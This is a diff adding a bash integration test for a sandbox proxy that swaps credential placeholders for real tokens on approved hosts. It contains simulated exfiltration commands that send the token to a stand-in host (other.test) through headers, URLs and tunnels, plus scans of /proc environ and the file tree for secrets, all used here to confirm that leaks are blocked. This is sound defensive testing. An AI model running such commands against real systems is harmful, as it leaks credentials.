@@ -1,0 +1,174 @@
+#!/usr/bin/env bash
+# Credential injection end to end (issue 5), in the egress test world with HTTPS echo
+# upstreams (run.sh adds them: tests/integration/egress_world_secrets.sh). The world's
+# "host trust store" holds a test CA; api.secret.test has a secret, plain.test (same server,
+# same CA) has none, bad.secret.test has a secret but a certificate from a CA the host does
+# not trust. From inside, curl and python send the placeholder; the upstream receives the
+# real value; a placeholder on its way anywhere else is refused and logged as exfiltration;
+# the value is nowhere inside; the untrusted upstream is refused; a host without secrets is
+# not intercepted. Then the same through the standalone `exguardian proxy`.
+source "$(dirname "$0")/lib.sh"
+
+new_workspace
+require_sandbox || finish
+
+WD=$(dirname "$EGW_LOG")
+SLOG=$WD/secrets.log          # one JSON line per request the HTTPS echo servers received
+TEST_CA=$WD/secrets/ca.pem
+rnd() { od -An -N8 -tx1 /dev/urandom | tr -d ' \n'; }
+VALUE="exgreal-$(rnd)$(rnd)"
+export API_TOKEN=$VALUE
+audit=$T/audit.jsonl
+POL=$T/policy.json
+cat > "$POL" <<'JSON'
+{
+  "network": {"allowedDomains": ["api.secret.test", "bad.secret.test", "plain.test", "other.test", "allowed.test"]},
+  "secrets": [{"name": "API_TOKEN", "from": "env:API_TOKEN", "hosts": ["api.secret.test", "bad.secret.test"]}]
+}
+JSON
+pol=(--policy "$POL" --audit-log "$audit")
+C="curl -sS -m 15"
+
+server_log_count() { grep -c . "$EGW_LOG" 2>/dev/null || true; }
+# out_has_both STATUS-LINE-RE HEADER-RE: the last output has both (grep -E, the header case-insensitive).
+out_has_both() { grep -qE -- "$1" <<<"$OUT" && grep -qiE -- "$2" <<<"$OUT"; }
+# requests_to PATH: the echo log's lines for that path.
+requests_to() { grep -F "\"path\": \"$1\"" "$SLOG" || true; }
+audit_exfil() {  # WHERE-substring HOST: an exfiltration line naming API_TOKEN, never the value
+    python3 - "$audit" "$1" "$2" "$VALUE" <<'PY'
+import json, sys
+path, where, host, value = sys.argv[1:]
+text = open(path).read()
+assert value not in text, "the value is in the audit log"
+lines = [json.loads(l) for l in text.splitlines() if '"exfiltration"' in l]
+hit = [l for l in lines if l.get("secret") == "API_TOKEN" and where in l.get("where", "") and l.get("host") == host]
+assert hit, (where, host, lines)
+PY
+}
+
+# ---- inside: placeholder only ----------------------------------------------------------------
+run sbx "${pol[@]}" -- bash -c 'echo "$API_TOKEN"'
+PH_SEEN=$(tr -d '\n' <<<"$OUT")
+check "the variable inside holds a placeholder ($PH_SEEN)" grep -qE '^exg_ph_API_TOKEN_[0-9a-zA-Z]{16,}$' <<<"$PH_SEEN"
+
+# ---- curl sends the placeholder, the upstream receives the value -------------------------------
+run sbx "${pol[@]}" -- bash -c "$C -H \"Authorization: Bearer \$API_TOKEN\" -H \"X-Api-Key: k=\$API_TOKEN\" \
+    https://api.secret.test/curl-bearer; echo; $C -u \"me:\$API_TOKEN\" https://api.secret.test/curl-basic"
+check "curl over the intercepted connection got answers (status $STATUS)" grep -q '"path": "/curl-basic"' <<<"$OUT"
+req=$(requests_to /curl-bearer)
+check "the upstream received Authorization: Bearer <value>" grep -qF "[\"Authorization\", \"Bearer $VALUE\"]" <<<"$req"
+check "the upstream received the value in a custom header" grep -qF "[\"X-Api-Key\", \"k=$VALUE\"]" <<<"$req"
+basic=$(printf 'me:%s' "$VALUE" | base64 -w0)
+check "basic-auth userinfo: the upstream received base64(me:<value>)" \
+    grep -qF "[\"Authorization\", \"Basic $basic\"]" <<<"$(requests_to /curl-basic)"
+check "no placeholder reached api.secret.test" bash -c "! grep -F api.secret.test '$SLOG' | grep -q exg_ph_"
+
+# ---- python (requests and urllib) ---------------------------------------------------------------
+run sbx "${pol[@]}" -- python3 -c '
+import os, json, urllib.request, requests
+t = os.environ["API_TOKEN"]
+r = requests.get("https://api.secret.test/py-requests", headers={"Authorization": "token " + t}, timeout=15)
+print(r.status_code)
+q = urllib.request.Request("https://api.secret.test/py-urllib", headers={"X-Token": t}, method="POST", data=b"body!")
+print(urllib.request.urlopen(q, timeout=15).status)'
+check "python requests and urllib through the intercepted connection (status $STATUS)" \
+    test "$(tr '\n' ' ' <<<"$OUT")" = "200 200 "
+check "requests: the upstream received the value" grep -qF "[\"Authorization\", \"token $VALUE\"]" <<<"$(requests_to /py-requests)"
+urllib_req=$(requests_to /py-urllib)
+check "urllib POST: the value in the header" grep -qF "[\"X-Token\", \"$VALUE\"]" <<<"$urllib_req"
+check "urllib POST: the body intact" grep -qF '"body": "body!"' <<<"$urllib_req"
+
+# ---- the same placeholder to other hosts: refused, logged, never arrives ------------------------
+before=$(server_log_count)
+run sbx "${pol[@]}" -- bash -c "$C -i -H \"Authorization: Bearer \$API_TOKEN\" http://other.test/exfil-header"
+check "plain HTTP with the placeholder in a header: 403 exfiltration" \
+    out_has_both '^HTTP/1.1 403' '^X-ExGuardian-Refused: exfiltration'
+
+run sbx "${pol[@]}" -- bash -c "$C -i \"http://other.test/exfil-url?t=\$API_TOKEN\""
+check "plain HTTP with the placeholder in the URL: 403" grep -q '^HTTP/1.1 403' <<<"$OUT"
+run sbx "${pol[@]}" -- bash -c "$C -p -H \"X-Leak: \$API_TOKEN\" http://other.test/exfil-tunnel"
+check "through a CONNECT tunnel (first bytes scanned): refused (status $STATUS)" test "$STATUS" -ne 0
+run sbx "${pol[@]}" -- bash -c "$C --socks5-hostname 127.0.0.1:1080 -H \"X-Leak: \$API_TOKEN\" http://other.test/exfil-socks"
+check "through a SOCKS5 tunnel: refused (status $STATUS)" test "$STATUS" -ne 0
+run sbx "${pol[@]}" -- bash -c "$C -p \"http://\$API_TOKEN.other.test/\""
+check "placeholder as the CONNECT target: refused (status $STATUS)" test "$STATUS" -ne 0
+run sbx "${pol[@]}" -- bash -c "$C --socks5-hostname 127.0.0.1:1080 \"http://\$API_TOKEN.allowed.test/\""
+check "placeholder as the SOCKS target: refused (status $STATUS)" test "$STATUS" -ne 0
+run sbx "${pol[@]}" -- python3 -c '
+import os, urllib.request, urllib.error
+try:
+    urllib.request.urlopen(urllib.request.Request("http://other.test/exfil-py", headers={"X-T": os.environ["API_TOKEN"]}), timeout=15)
+    print("SENT")
+except urllib.error.HTTPError as e:
+    print(e.code, e.headers.get("X-ExGuardian-Refused"))'
+check "python urllib to another host: 403 exfiltration" grep -q "^403 exfiltration" <<<"$OUT"
+check "none of these requests arrived at the world's servers ($before -> $(server_log_count))" \
+    test "$(server_log_count)" = "$before"
+check "no exfil request in any server log" bash -c "! grep -q exfil '$EGW_LOG' '$SLOG'"
+# Over TLS to a host without secrets the proxy sees no headers: it arrives as the placeholder only.
+run sbx "${pol[@]}" -- bash -c "$C -H \"Authorization: Bearer \$API_TOKEN\" https://plain.test/tls-other"
+check "to plain.test over TLS: the placeholder only, never the value" \
+    bash -c "r=\$(grep -F '/tls-other' '$SLOG'); grep -q 'Bearer exg_ph_API_TOKEN_' <<<\"\$r\" && ! grep -qF '$VALUE' <<<\"\$r\""
+check "audit: exfiltration in a header (plain HTTP)" audit_exfil "header Authorization" other.test
+check "audit: exfiltration in a URL" audit_exfil url other.test
+check "audit: exfiltration in a tunnel's first bytes" audit_exfil tunnel other.test
+check "audit: exfiltration as a CONNECT target" bash -c "grep '\"connect target\"' '$audit' | grep -q API_TOKEN"
+check "audit: exfiltration as a SOCKS target" bash -c "grep '\"socks target\"' '$audit' | grep -q API_TOKEN"
+
+# ---- the value is nowhere inside ----------------------------------------------------------------
+run sbx "${pol[@]}" -- bash -c "{ env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n'; \
+    cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' '; \
+    for f in \$(awk '{print \$5}' /proc/self/mountinfo | sort -u); do \
+      [ -f \"\$f\" ] && [ \$(stat -c %s \"\$f\" 2>/dev/null || echo 0) -lt 10000000 ] && cat \"\$f\" 2>/dev/null; done; \
+    grep -rIl -- \"\$API_TOKEN\" \"\$HOME\" /etc /tmp 2>/dev/null | head -3; echo END; } | tr -d '\\0'"
+check "the inside scan ran to its end" grep -q "^END$" <<<"$OUT"
+check "the inside scan saw the placeholder" grep -q "exg_ph_API_TOKEN_" <<<"$OUT"
+last_output_lacks "$VALUE" "the real value is not in the env, /proc/*/environ, cmdlines or mounted files"
+run sbx "${pol[@]}" -- bash -c "grep -rF -l '$VALUE' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | head; echo DONE"
+# (the needle itself is on the command line: it can only be found through /proc, excluded here)
+check "a search of the sandbox's whole file tree finds no file holding the value" test "$(tr -d '\n' <<<"$OUT")" = DONE || show_last
+
+# ---- an upstream the host does not trust --------------------------------------------------------
+run sbx "${pol[@]}" -- bash -c "$C -i -H \"Authorization: Bearer \$API_TOKEN\" https://bad.secret.test/untrusted"
+check "untrusted upstream: 502 with X-ExGuardian-Refused" \
+    out_has_both '^HTTP/1.1 502' '^X-ExGuardian-Refused: upstream certificate not trusted'
+check "nothing reached the untrusted upstream" bash -c "! grep -q '/untrusted' '$SLOG'"
+check "audit: the untrusted upstream refused" bash -c "grep bad.secret.test '$audit' | grep -q 'upstream certificate not trusted'"
+
+# ---- a host without secrets is not intercepted ---------------------------------------------------
+run sbx "${pol[@]}" -- bash -c "$C -v https://plain.test/issuer -o /dev/null 2>&1 | grep -i 'issuer:'; \
+    $C -v https://api.secret.test/issuer -o /dev/null 2>&1 | grep -i 'issuer:'"
+check "plain.test: the client sees the upstream's own certificate (test CA)" \
+    grep -q "issuer: CN=ExGuardian test upstream CA" <<<"$(sed -n 1p <<<"$OUT")"
+check "api.secret.test: the client sees the sandbox's CA" grep -q "issuer: .*CN=ExGuardian sandbox .* CA" <<<"$(sed -n 2p <<<"$OUT")"
+check "audit: api.secret.test intercepted, plain.test tunnelled" python3 -c "
+import json
+ls = [json.loads(l) for l in open('$audit') if '\"egress\"' in l]
+assert any(l.get('host') == 'api.secret.test' and l.get('intercepted') and l.get('secrets') == ['API_TOKEN'] for l in ls)
+assert all(not l.get('intercepted') for l in ls if l.get('host') == 'plain.test')
+assert any(l.get('host') == 'plain.test' and l['decision'] == 'allowed' for l in ls)
+"
+
+# ---- the standalone proxy, same world --------------------------------------------------------------
+echo "exgtoken-$(rnd)" > "$T/token"
+PORT=$((20000 + RANDOM % 20000))
+"$EXG" proxy --listen "127.0.0.1:$PORT" --policy "$POL" --token-file "$T/token" --audit-log "$T/proxy-audit.jsonl" \
+    --ca-cert-out "$T/proxy-ca.pem" --placeholders-out "$T/placeholders" 2>"$T/proxy.err" &
+track_bg $!
+wait_for 10 test -s "$T/placeholders"
+check "--placeholders-out is mode 0600" test "$(stat -c %a "$T/placeholders")" = 600
+check "--ca-cert-out holds a certificate and no key" \
+    bash -c "openssl x509 -in '$T/proxy-ca.pem' -noout -subject | grep -q 'ExGuardian sandbox' && ! grep -q PRIVATE '$T/proxy-ca.pem'"
+PPH=$(sed -n 's/^API_TOKEN=//p' "$T/placeholders")
+PX="http://exguardian:$(cat "$T/token")@127.0.0.1:$PORT"
+run $C --proxy "$PX" --cacert "$T/proxy-ca.pem" -H "Authorization: Bearer $PPH" https://api.secret.test/standalone
+check "standalone proxy: the upstream received the value" \
+    grep -qF "[\"Authorization\", \"Bearer $VALUE\"]" <<<"$(requests_to /standalone)"
+run $C --proxy "$PX" -i -H "Authorization: Bearer $PPH" http://other.test/standalone-exfil
+check "standalone proxy: placeholder to another host refused" grep -q '^HTTP/1.1 403' <<<"$OUT"
+run $C --proxy "$PX" --cacert "$T/proxy-ca.pem" -i https://bad.secret.test/standalone-untrusted
+check "standalone proxy: untrusted upstream refused" grep -qi '^X-ExGuardian-Refused: upstream certificate not trusted' <<<"$OUT"
+check "standalone proxy: the value is not in its audit log or stderr" \
+    bash -c "! grep -qF '$VALUE' '$T/proxy-audit.jsonl' '$T/proxy.err'"
+
+finish
